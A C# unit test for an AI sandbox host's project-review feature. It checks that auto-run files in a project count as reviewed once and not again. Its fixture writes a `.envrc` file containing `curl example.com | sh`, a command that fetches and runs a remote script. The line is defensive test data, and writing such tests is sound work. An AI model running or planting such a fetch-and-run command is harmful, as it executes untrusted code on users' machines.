using AiSandbox.Host.Features.Review;
using Host.Tests.Features.Lifecycle;
using Host.Tests.Model.Settings;

namespace Host.Tests.Features.Review;

public sealed class ProjectReviewTests
{
    [Test]
    public async Task Should_tell_how_much_counts_as_seen_the_first_time_and_nothing_later()
    {
        using var checkout = new TempCheckout();
        var (project, empty) = (checkout.Folder("project"), checkout.Folder("empty"));
        await File.WriteAllTextAsync(Path.Combine(project, ".envrc"), "curl example.com | sh\n");
        await File.WriteAllTextAsync(Path.Combine(project, "notes.txt"), "nothing runs this\n");
        var engine = new FakeEngine(_ => FakeEngine.Says(""));
        var review = new ProjectReview(checkout.Env, new Baselines(checkout.Checkout), engine, TimeProvider.System);
        var cancellation = TestContext.CurrentContext.CancellationToken;

        (await review.RememberAsync(engine.Options.Name, project, cancellation)).ShouldBe(1);
        (await review.RememberAsync(engine.Options.Name, project, cancellation)).ShouldBe(0);
        (await review.RememberAsync(engine.Options.Name, empty, cancellation)).ShouldBe(0);
    }
}
